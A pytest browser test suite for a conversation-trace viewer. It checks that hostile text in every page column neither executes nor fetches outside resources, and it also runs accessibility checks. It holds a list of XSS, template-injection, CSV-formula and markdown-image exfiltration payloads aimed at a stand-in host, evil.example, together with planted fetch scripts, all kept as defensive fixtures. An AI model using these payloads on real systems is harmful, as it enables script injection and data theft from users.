"""Every page in a real browser, with hostile texts in every column: nothing is blocked, run, fetched or unreadable."""

from __future__ import annotations

import dataclasses
from hashlib import sha256
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from convotrace.model import Conversation, Failure, Payload
from convotrace.store import Store
from tests.page import furnished
from tests.patience import until

pytestmark = pytest.mark.browser

VENDOR = Path(__file__).parent / "vendor"
RIGHTS = ("read", "annotate", "export", "delete", "audit")

BIDI = "\u202egnp.exe\u202c \u2066left\u2069 zero\u200bwidth \u0007bell \x1b[31mred"
SHORT = [
    "<script>window.run = 1</script>",
    '"><img src=x onerror="window.run = 1">',
    "<svg onload=window.run=1></svg><iframe srcdoc='<script>parent.run=1</script>'>",
    "[click](javascript:window.run=1) <javascript:window.run=1> [x](data:text/html,<script>run=1</script>)",
    "![secret](https://evil.example/p?q=secret) ![a][x]\n\n[x]: https://evil.example/x.png",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
    BIDI,
    '</script></textarea></title></style>--><!-- <base href="https://evil.example/">',
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 %> {{constructor.constructor('window.run=1')()}}",
    '=HYPERLINK("https://evil.example","x") +cmd|\' /C calc\'!A0 @SUM(1) -2+3',
    '{"broken": [1, 2, {"a": "\\ud800',
    "**[" * 40 + "deep" + "](x)**" * 40,
    "> " * 80 + "quoted deep",
]
DEEP = '{"a":' * 400 + "1" + "}" * 400
LINE = "x" * 1_000_000


def _pages(conversation: Any) -> list[str]:
    key = conversation.session.key
    turn = f"s/{key}/t/{'a' * 32}"
    spans = [f"{turn}?span={number * 16}" for number in "12345"]
    return [
        "", "rows", "beside", "?q=nothing", "?q=usr:x", f"?q={quote('tag:' + chr(34) + '<b>' + chr(34))}", "search",
        "search?q=deep", f"s/{key}", f"s/{key}?zoom=cards", f"s/{key}?zoom=waterfall", turn, *spans,
        f"s/{key}/t/{'b' * 32}", f"s/{key}/t/{'c' * 32}", f"s/{key}/t/{'b' * 32}/diff", f"compare?s={key}&s={key}",
        "compare", "health", "review", "scores", "datasets", f"collect?session={key}", "collect?q=%3Cb%3E",
        "arms", "arms?by=tag&a=%3Cb%3E&b=x", "flow", "flow?steps=turn:1,event:%3Cb%3E&at=step:1",
        "dashboard", "dashboard?by=tag&since=7d", f"dashboard?q={quote('usr:<b>')}",
    ]  # fmt: skip


def _walk(page: Any, site: str, addresses: list[str]) -> list[str]:
    """Visit every address; return what was wrong."""
    found = []
    for address in addresses:
        is_part = address in ("rows", "beside")  # of other pages, without styles or an icon
        status = page.goto(f"{site}/{address}").status
        page.wait_for_load_state()
        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        foreign = page.evaluate("document.querySelectorAll('iframe, base, style, [style], [onload], [onerror]').length")
        if status >= 500 or (wide > 0 and not is_part) or foreign or page.evaluate("window.run"):
            found.append((address, status, wide, foreign))
        page.complaints = [one for one in page.complaints if not _is_meant(one) and not is_part]
        found += [(address, one) for one in page.complaints]
        page.complaints.clear()
    return found


def test_no_hostile_text_in_any_column_of_any_page_runs_fetches_or_is_blocked(
    browser, new_house, seed, serve_house, open_page
):
    conversation = seed("\n\n".join(SHORT))
    house = new_house([conversation], service="<b>shop</b>", environment="<i>prod</i>", release='"><script>')
    house.state |= {"warnings": [SHORT[0]], "last_error": SHORT[1], "dropped": {SHORT[2]: {SHORT[3]: 2}}}
    site = serve_house(house)
    page = open_page(browser, site, viewport={"width": 360, "height": 800})
    found = _walk(page, site, _pages(conversation))
    assert found == [], found


@pytest.fixture
def full_site(new_house, seed, serve_house):
    """Serve a real store that holds one text everywhere, queues and datasets included: `full_site(text)`."""
    opened = []

    def serve(text: str, **options: Any) -> str:
        opened.append(store := Store.open("memory:"))
        furnished.furnish(store, seed(text), text)
        made = new_house([], alerts=furnished.RULES, rights=RIGHTS, **options)
        return serve_house(furnished.house(made, store, text))

    yield serve
    for store in opened:
        store.close()


def test_no_page_is_left_out_of_these_tests():
    assert furnished.left_out() == set()


@pytest.mark.parametrize("width", [360, pytest.param(1440, marks=pytest.mark.slow)])
def test_no_hostile_text_in_any_column_of_a_real_store_runs_fetches_or_is_blocked(browser, full_site, open_page, width):
    site = full_site("\n\n".join(SHORT), service="<b>shop</b>", environment="<i>prod</i>", release='"><script>')
    page = open_page(browser, site, viewport={"width": width, "height": 800})
    found = _walk(page, site, [*furnished.ADDRESSES, *furnished.PARTS])
    assert found == [], found


@pytest.mark.slow
@pytest.mark.parametrize("text", [*SHORT, DEEP, LINE], ids=range(len(SHORT) + 2))
def test_each_hostile_text_alone_in_a_real_store(browser, full_site, open_page, text):
    site = full_site(text)
    assert _walk(open_page(browser, site), site, [*furnished.ADDRESSES, *furnished.PARTS]) == []


@pytest.mark.slow
@pytest.mark.parametrize("text", [*SHORT, DEEP], ids=range(len(SHORT) + 1))
def test_each_hostile_text_alone(browser, new_house, seed, serve_house, open_page, text):
    conversation = seed(text)
    site = serve_house(new_house([conversation]))
    assert _walk(open_page(browser, site), site, _pages(conversation)) == []


@pytest.mark.slow
def test_a_line_of_a_million_characters_is_shown_like_any_other(browser, new_house, seed, serve_house, open_page):
    whole = seed("ok")
    first, *rest = whole.traces
    agent, call, tool, *others = first.spans
    tool = dataclasses.replace(tool, result=LINE, error=Failure("E", LINE, LINE))
    first = dataclasses.replace(
        first, input=Payload(LINE, LINE), output=Payload(LINE), spans=(agent, call, tool, *others)
    )
    session = dataclasses.replace(whole.session, first_input=LINE, last_output=LINE, user_id=LINE)
    conversation = Conversation(session, (first, *rest))
    site = serve_house(new_house([conversation]))
    assert _walk(open_page(browser, site), site, _pages(conversation)) == []


def _is_meant(complaint: str) -> bool:
    """Tell whether it is the browser's line on a wrong filter or an address where nothing is."""
    return "status of 400" in complaint or "status of 404" in complaint


PLANTED = {
    "an inline style": "document.body.setAttribute('style', 'color: red')",
    "an inline handler": "document.body.setAttribute('onclick', 'x()'); document.body.click()",
    "markup from a string": "document.body.innerHTML = '<b>x</b>'",
    "a script from a string": "setTimeout('x()')",
    "a request to elsewhere": "fetch('http://evil.example/').catch(() => 0)",
    "an image from elsewhere": "new Image().src = 'http://evil.example/x.png'",
    "a frame": "document.body.append(document.createElement('iframe')); frames[0].location = 'http://evil.example'",
}


@pytest.mark.parametrize("script", PLANTED.values(), ids=PLANTED)
def test_a_planted_violation_is_found(browser, new_house, serve_house, open_page, script):
    page = open_page(browser, serve_house(new_house([])))
    assert page.complaints == []
    try:
        page.evaluate(script)
    except Exception as error:
        page.complaints.append(str(error))
    until(lambda: page.wait_for_timeout(20) or page.complaints)  # it comes by itself, but not at once


@pytest.fixture(scope="session")
def axe():
    """Return what axe-core finds serious or critical on a page."""
    script = (VENDOR / "axe.min.js").read_text()

    def run(page: Any) -> list[str]:
        page.evaluate(script)
        found = page.evaluate("axe.run().then((told) => told.violations)")
        return [
            f"{one['id']} {node['html'][:160]}"
            for one in found
            if one["impact"] in ("serious", "critical")
            for node in one["nodes"]
        ]

    return run


def test_the_script_that_looks_at_pages_is_the_one_that_was_vendored():
    assert sha256((VENDOR / "axe.min.js").read_bytes()).hexdigest() in (VENDOR / "README.md").read_text()


def _serious(page: Any, site: str, axe: Any, addresses: list[str]) -> str:
    found = []
    for address in addresses:
        page.goto(f"{site}/{address}")
        page.wait_for_load_state()
        found += [f"{address}: {one}" for one in axe(page)]
    return "\n".join(found)


@pytest.mark.parametrize(
    ("theme", "width"),
    [("light", 1440), *(pytest.param(*one, marks=pytest.mark.slow)
                        for one in (("dark", 1440), ("light", 360), ("dark", 360), ("dark", 900)))],
)  # fmt: skip
def test_axe_finds_nothing_serious_on_any_page(browser, full_site, open_page, axe, theme, width):
    site = full_site("Words of a person", service="shop", environment="prod")
    page = open_page(browser, site, color_scheme=theme, viewport={"width": width, "height": 900})
    assert _serious(page, site, axe, furnished.ADDRESSES) == ""


@pytest.mark.parametrize(
    ("theme", "width"),
    [("light", 1440), *(pytest.param("dark", width, marks=pytest.mark.slow) for width in (1440, 360))],
)
def test_axe_finds_nothing_serious_where_there_is_nothing_yet(
    browser, new_house, serve_house, open_page, axe, theme, width
):
    site = serve_house(new_house([], rights=RIGHTS))
    page = open_page(browser, site, color_scheme=theme, viewport={"width": width, "height": 900})
    assert _serious(page, site, axe, ["", "search", "dashboard", "flow", "tools", "incidents", "audit", "health"]) == ""


def test_axe_finds_what_is_planted(browser, new_house, seed, serve_house, open_page, axe):
    page = open_page(browser, serve_house(new_house([seed("x")])))
    page.evaluate("document.querySelector('[name=q]').removeAttribute('aria-label')")
    page.evaluate("document.querySelector('[name=q]').removeAttribute('placeholder')")
    assert any("label" in one for one in axe(page))
